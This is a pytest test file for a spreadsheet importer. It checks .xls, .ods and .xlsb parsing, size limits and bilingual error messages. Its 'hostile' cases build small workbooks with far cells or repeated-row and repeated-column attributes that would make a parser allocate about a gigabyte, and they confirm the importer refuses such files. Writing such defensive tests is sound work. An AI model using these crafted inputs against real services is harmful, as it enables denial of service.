    rows[1][4] = "eight"
    (p,) = problems_of(_write_xls(tmp_path / "bad.xls", sheets))
    assert (p.table, p.row, p.column, p.value) == ("trust_ratings", 3, "score", "eight")


HOSTILE_XLS = {
    # name: (row, column) of the one far cell (0-based), fragments of the message
    "far column": ((1, 255), ("reaches column IV (column 256); the limit is 200 columns",)),
    "many cells": ((65535, 100), ("spans 6619136 cells (65536 rows × 101 columns)", "file_max_cells")),
}


@pytest.mark.parametrize("case", list(HOSTILE_XLS))
def test_a_hostile_xls_is_refused_before_calamine_allocates_its_sheet(tmp_path: Path, case: str) -> None:
    import time

    import xlwt

    (row, column), fragments = HOSTILE_XLS[case]
    book = xlwt.Workbook()
    sheet = book.add_sheet("partners")
    for j, h in enumerate(["alliance_id", "partner_id", "name"]):
        sheet.write(0, j, h)
    sheet.write(row, column, "x")
    path = tmp_path / "hostile.xls"
    book.save(str(path))
    assert path.stat().st_size < 10_000  # a few KB that would make calamine allocate 1 GB
    start = time.perf_counter()
    with pytest.raises(UserError) as info:
        read_path(path)
    assert time.perf_counter() - start < 5
    message = str(info.value)
    assert message.startswith(f"{path} cannot be read as an .xls workbook: sheet 'partners' "), message
    for fragment in fragments:
        assert fragment in message, message


HOSTILE_ODS = {
    "repeated columns": (
        '<table:table-row><table:table-cell office:value-type="string" table:number-columns-repeated="16384">'
        "<text:p>x</text:p></table:table-cell></table:table-row>",
        ("reaches column XFD (column 16384); the limit is 200 columns",),
    ),
    "repeated rows": (
        '<table:table-row table:number-rows-repeated="1048575"><table:table-cell office:value-type="float" '
        'office:value="1"><text:p>1</text:p></table:table-cell></table:table-row>',
        ("reaches row 1048576; the limit is 500000 rows",),
    ),
}


@pytest.mark.parametrize("case", list(HOSTILE_ODS))
def test_a_hostile_ods_is_refused_before_calamine_expands_it(tmp_path: Path, case: str) -> None:
    import time

    rows, fragments = HOSTILE_ODS[case]
    header = "<table:table-row>" + "".join(_ods_cell(h) for h in ["alliance_id", "partner_id", "name"])
    path = _write_ods(tmp_path / "hostile.ods", {"partners": header + "</table:table-row>" + rows})
    start = time.perf_counter()
    with pytest.raises(UserError) as info:
        read_path(path)
    assert time.perf_counter() - start < 5
    message = str(info.value)
    assert message.startswith(f"{path} cannot be read as an .ods workbook: sheet 'partners' "), message
    for fragment in fragments:
        assert fragment in message, message


def test_not_an_xls_nor_an_ods_is_a_clear_message(tmp_path: Path) -> None:
    (tmp_path / "junk.xls").write_bytes(b"<html>an export that is a web page</html>" * 20)
    with pytest.raises(UserError, match=r"junk\.xls cannot be read as an \.xls workbook: it is not an Excel 97"):
        read_path(tmp_path / "junk.xls")
    (tmp_path / "junk.ods").write_bytes(b"not a zip")
    with pytest.raises(UserError, match=r"as an \.ods workbook: it is not a zip archive \(an \.ods workbook is one\)"):
        read_path(tmp_path / "junk.ods")
    (tmp_path / "junk.xlsb").write_bytes(b"not a zip")
    with pytest.raises(UserError, match=r"as an \.xlsb workbook: it is not a zip archive"):
        read_path(tmp_path / "junk.xlsb")


def test_the_xlsb_record_walk_finds_the_last_cell() -> None:
    """No program here writes .xlsb: the walk over its records is checked on records made by hand ([MS-XLSB])."""
    import struct

    from alliance_lens.xlsx_io import xlsb_extent

    def record(kind: int, body: bytes) -> bytes:
        head = bytes([kind]) if kind < 0x80 else bytes([(kind & 0x7F) | 0x80, kind >> 7])
        size, out = len(body), b""
        while True:
            out += bytes([(size & 0x7F) | (0x80 if size > 0x7F else 0)])
            size >>= 7
            if not size:
                break
        return head + out + body

    def row(n: int) -> bytes:  # BrtRowHdr: the row's number first
        return record(0, struct.pack("<I", n) + b"\0" * 13)

    def real(column: int) -> bytes:  # BrtCellReal: the column first
        return record(5, struct.pack("<II", column, 0) + struct.pack("<d", 1.5))

    part = record(0x181, b"") + row(0) + real(2) + row(299_999) + real(25) + record(0x182, b"\0" * 200)
    assert xlsb_extent(part) == (300_000, 26)
    with pytest.raises(ValueError, match="runs past the end"):
        xlsb_extent(part + bytes([5, 16]) + b"\0" * 5)  # a cell record of 16 bytes cut after 5


EXCEL_FILES = Path(__file__).parent / "data"  # written by Excel; tests/data/README.md says where from


def test_a_workbook_excel_wrote_as_xlsb_is_walked_to_its_last_cell_and_read() -> None:
    """The limits see what calamine will allocate: the extent of each sheet part is its last cell from A1."""
    import zipfile

    from python_calamine import CalamineWorkbook

    from alliance_lens.xlsx_io import Limits, WorkbookError, check_xlsb, xlsb_extent

    path = EXCEL_FILES / "excel_base.xlsb"
    with zipfile.ZipFile(path) as z:
        extents = {n: xlsb_extent(z.read(n)) for n in z.namelist() if re.fullmatch(r"xl/worksheets/sheet\d\.bin", n)}
    # sheet 4 holds only a merged range (blank cells with a format): counted, as they are cells
    assert extents == {
        f"xl/worksheets/sheet{i}.bin": e for i, e in [(1, (2, 10)), (2, (0, 0)), (3, (4, 4)), (4, (2, 2))]
    }
    book = CalamineWorkbook.from_path(str(path))
    for i, name in [(1, "Sheet1"), (3, "Sheet3")]:
        end = book.get_sheet_by_name(name).end
        assert end is not None and extents[f"xl/worksheets/sheet{i}.bin"] == (end[0] + 1, end[1] + 1)
    data = path.read_bytes()
    check_xlsb(data, Limits(max_rows=4, max_columns=10, max_cells=20))  # exactly at every limit: accepted
    with pytest.raises(WorkbookError, match=r"sheet 'sheet3.bin' reaches row 4; the limit is 3 rows"):
        check_xlsb(data, Limits(max_rows=3))
    with pytest.raises(
        WorkbookError, match=r"sheet 'sheet1.bin' reaches column J \(column 10\); the limit is 9 columns"
    ):
        check_xlsb(data, Limits(max_columns=9))
    with pytest.raises(
        WorkbookError, match=r"sheet 'sheet1.bin' spans 20 cells \(2 rows × 10 columns\); the limit is 19 cells"
    ):
        check_xlsb(data, Limits(max_cells=19))
    with pytest.raises(UserError, match=r"excel_base\.xlsb holds none of the format's sheets \(alliances, partners,"):
        read_path(path)


def test_a_password_protected_workbook_and_a_renamed_xls_are_named_for_what_they_are(tmp_path: Path) -> None:
    locked = tmp_path / "locked.xlsx"
    locked.write_bytes((EXCEL_FILES / "excel_password.xlsb").read_bytes())
    for path in (EXCEL_FILES / "excel_password.xlsb", locked):
        with pytest.raises(UserError) as info:
            read_path(path)
        kind = path.suffix
        assert info.value.message("en") == (
            f"{path} cannot be read as an {kind} workbook: it is protected by a password (Excel then encrypts "
            "the whole workbook): save it without a password and import that copy"
        )
        assert "beveiligd met een wachtwoord" in info.value.message("nl")
    renamed = tmp_path / "old.xlsx"
    renamed.write_bytes(bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 1_000)
    with pytest.raises(
        UserError, match=r"an Excel 97–2003 workbook \(\.xls\) under another name: rename it to \.xls, or"
    ):
        read_path(renamed)


def test_every_file_problem_and_refusal_is_worded_in_dutch_too(tmp_path: Path) -> None:
    broken = write_folder(tmp_path / "broken", {**GOOD, "partners": ["a1,p1,One,,extra"]})
    (broken / "sessions.csv").write_text("alliance_id,session_id,session_id,colour\n", encoding="utf-8")
    (broken / "outcomes.csv").write_text("", encoding="utf-8")
    (broken / "notes.csv").write_text("x\n", encoding="utf-8")
    with pytest.raises(ValidationError) as info:
        read_path(broken)
    problems = info.value.problems
    assert {p.code for p in problems} == {
        "file.column_twice",
        "file.column_missing",
        "file.empty",
        "file.too_many_values",
    }
    twice = next(p for p in problems if p.code == "file.column_twice")
    assert twice.text("en") == "sessions.csv row 1, column session_id (value 'session_id'): " + (
        "column 'session_id' appears twice in the header"
    )
    assert twice.message("nl") == "kolom 'session_id' staat twee keer in de kopregel"
    assert all(p.message("nl") != p.message("en") for p in problems)

    with pytest.raises(UserError) as refused:
        read_path(tmp_path / "nowhere.xlsx")
    assert refused.value.message("nl") == f"{tmp_path / 'nowhere.xlsx'} bestaat niet"

    import xlwt

    book = xlwt.Workbook()
    book.add_sheet("partners").write(1, 255, "x")
    book.save(str(tmp_path / "wide.xls"))
    with pytest.raises(UserError) as wide:
        read_path(tmp_path / "wide.xls")
    assert wide.value.message("nl") == (
        f"{tmp_path / 'wide.xls'} is niet te lezen als .xls-werkmap: blad 'partners' loopt tot kolom IV "
        "(kolom 256); de grens is 200 kolommen (instelling file_max_columns)"
    )
    assert str(wide.value) == wide.value.message("en")
